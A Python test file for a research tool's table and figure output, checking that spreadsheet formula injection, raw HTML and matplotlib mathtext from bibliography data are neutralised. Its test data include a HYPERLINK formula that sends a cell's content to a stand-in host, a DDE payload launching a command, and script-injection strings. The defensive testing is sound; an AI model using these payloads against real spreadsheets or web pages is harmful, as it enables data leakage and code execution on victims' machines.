"""Text from data never becomes a formula, HTML or mathtext.

Attacks (issue 14): an excerpt or title beginning with ``=HYPERLINK(...)``, ``+``, ``-``,
``@`` became a live formula in table1.xlsx and travelled raw into CSV reports opened
in spreadsheets; Markdown tables carried raw HTML; a venue name with ``$...$`` was parsed
as matplotlib mathtext and could crash a figure.

The choice (OWASP "CSV Injection"): in XLSX every text cell is a string cell (never a
formula) and a text beginning with = + - @ TAB or CR is also marked "quote prefix", so
Excel keeps it text even when the cell is edited, without changing the text. In the
CSV reports meant for people (``--dedup-report``, ``--rejects``, ``--unmapped``) such a
cell gets a leading apostrophe; numbers, including negative ones, stay numbers. The CSV
files that later stages and other programs read back (corpus, segments, table1) keep the
exact text (see SECURITY.md).
"""

from __future__ import annotations

import importlib
import io

import pandas as pd
import pytest
from hostile import SOURCE_GUID, make_qdpx, project_qde, qda_import, run_main


def _mod(new, old):
    try:
        return importlib.import_module(new)
    except ImportError:
        return importlib.import_module(old)


RISKY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _table(texts):
    n = len(texts)
    return pd.DataFrame(
        {
            "dimension": [f"d{i}" for i in range(n)],
            "dimension_label": texts,
            "level_label": ["Aligned"] * n,
            "n_strength": [3] * n,
            "n_gap": [1] * n,
            "n_mixed": [0] * n,
            "n_sources": [2] * n,
            "score": [-0.5] * n,
            "key_strength": texts,
            "critical_gap": texts,
            "published_level": [""] * n,
            "matches_published": [None] * n,
        }
    )


def test_xlsx_text_cells_are_strings_never_formulas(tmp_path):
    from openpyxl import load_workbook

    tables = _mod("revalign.alignment.tables", "revalign.tables")
    tables.write_tables(_table(RISKY), tmp_path)
    ws = load_workbook(tmp_path / "table1.xlsx").active
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(RISKY)
    for text, row in zip(RISKY, rows, strict=False):
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        dim = row[0]
        assert dim.data_type == "s" and dim.value == text.replace("\r", "\n") or dim.value == text
        assert dim.quotePrefix, f"{dim.coordinate} {text!r} not marked as quoted text"
    score = rows[0][3]  # "Score" column: "-0.50" is text written by presentation(); a formatted number
    assert score.value == "-0.50"


def test_xlsx_numbers_stay_numbers():
    from openpyxl import load_workbook

    tables = _mod("revalign.alignment.tables", "revalign.tables")
    df = pd.DataFrame({"text": ["=1+1", "plain"], "n": [-3, 4], "x": [-0.25, 1.5]})
    ws = load_workbook(io.BytesIO(tables.to_xlsx_bytes(df))).active
    assert [c.value for c in ws["B"][1:]] == [-3, 4] and ws["B2"].data_type == "n"
    assert [c.value for c in ws["C"][1:]] == [-0.25, 1.5] and ws["C2"].data_type == "n"
    assert ws["A2"].data_type == "s" and ws["A2"].value == "=1+1"
    assert ws["A3"].data_type == "s" and not ws["A3"].quotePrefix


@pytest.mark.parametrize(
    "text,expected",
    [
        ("=HYPERLINK(1)", "'=HYPERLINK(1)"),
        ("+1+cmd", "'+1+cmd"),
        ("+1", "+1"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("", ""),
        ("-3", "-3"),
        ("+2.5e3", "+2.5e3"),
        ("-0.50", "-0.50"),
        ("a=b", "a=b"),
    ],
)
def test_spreadsheet_cell_rule(text, expected):
    tables = _mod("revalign.alignment.tables", "revalign.tables")
    assert tables.spreadsheet_text(text) == expected


BIB = """@article{evil1,
  title = {=HYPERLINK("http://evil.example/","Click me")},
  year = {2020},
  doi = {10.1000/evil}
}
@article{evil2,
  title = {=HYPERLINK("http://evil.example/","Click me")},
  year = {2020},
  doi = {10.1000/EVIL}
}
@article{norecord,
  author = {@Smith, Ann},
  year = {-2020}
}
"""


def test_csv_reports_neutralise_formulas_and_keep_numbers(tmp_path, capfd):
    bib = tmp_path / "refs.bib"
    bib.write_text(BIB, encoding="utf-8")
    out, rep, rej = tmp_path / "corpus.csv", tmp_path / "dedup.csv", tmp_path / "rejects.csv"
    code, o, e = run_main(["bib", "import", bib, "-o", out, "-q", "--dedup-report", rep, "--rejects", rej], capfd)
    assert code == 0, e
    merges = pd.read_csv(rep, dtype=str, keep_default_na=False)
    assert len(merges) == 1
    assert merges["kept_title"].tolist() == ['\'=HYPERLINK("http://evil.example/","Click me")']
    assert merges["year"].tolist() == ["2020"]  # a number stays a number
    rejects = pd.read_csv(rej, dtype=str, keep_default_na=False)
    assert len(rejects) == 1 and not rejects.iloc[0]["reason"].startswith("'")
    # the corpus is data read back by the next stage: its text is exact
    corpus = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert corpus["title"].tolist() == ['=HYPERLINK("http://evil.example/","Click me")']


def test_csv_unmapped_report_neutralises_formulas(tmp_path, capfd):
    text = b'=HYPERLINK("http://evil.example/") and more'
    codes = (
        '<Code guid="aaaaaaaa-0000-4000-8000-000000000001" name="Empower learners" isCodable="true"/>'
        '<Code guid="aaaaaaaa-0000-4000-8000-000000000009" name="@evil code" isCodable="true"/>'
    )
    qde = project_qde(codes_xml=codes, end=30).replace(
        '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000001"/>',
        '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000001"/>'
        '<CodeRef targetGUID="aaaaaaaa-0000-4000-8000-000000000009"/>',
    )
    qdpx = make_qdpx(tmp_path / "p.qdpx", qde, {f"sources/{SOURCE_GUID}.txt": text})
    out, un = tmp_path / "s.csv", tmp_path / "unmapped.csv"
    code, o, e = run_main(qda_import(qdpx, out, "--unmapped", un), capfd)
    assert code == 0, e
    df = pd.read_csv(un, dtype=str, keep_default_na=False)
    assert df["code"].tolist() == ["'@evil code"]
    # characters 0-30, counted by hand: '=HYPERLINK(' 11 + '"http://' 8 + 'evil.exampl' 11
    assert df["excerpt"].tolist() == ["'=HYPERLINK(\"http://evil.exampl"]
    assert df["start"].tolist() == ["0"]


def test_markdown_table_escapes_html():
    tables = _mod("revalign.alignment.tables", "revalign.tables")
    df = pd.DataFrame({"<b>col</b>": ["<script>alert(1)</script>", "a & b", '<img src=x onerror="x">']})
    md = tables.to_markdown(df)
    assert "<script" not in md and "<img" not in md and "<b>" not in md
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md
    assert "a &amp; b" in md


def test_figure_text_from_data_is_not_mathtext():
    import matplotlib

    matplotlib.use("Agg")
    style = _mod("revalign.plotting.style", "revalign.style")
    plots = _mod("revalign.bibliography.plots", "revalign.corpus_plots")
    style.apply()
    assert matplotlib.rcParams["text.parse_math"] is False
    # each venue twice: the venues figure draws only venues with more than one work
    corpus = pd.DataFrame({"source_title": [r"Journal of $\notacommand{x}$ Studies", r"Costs in $ and $\frac{1}"] * 2})
    fig = plots.venues(corpus)
    buf = io.BytesIO()
    fig.savefig(buf, format="png")  # a5f39f4: ValueError from the mathtext parser
    labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
    assert any("$" in t for t in labels)
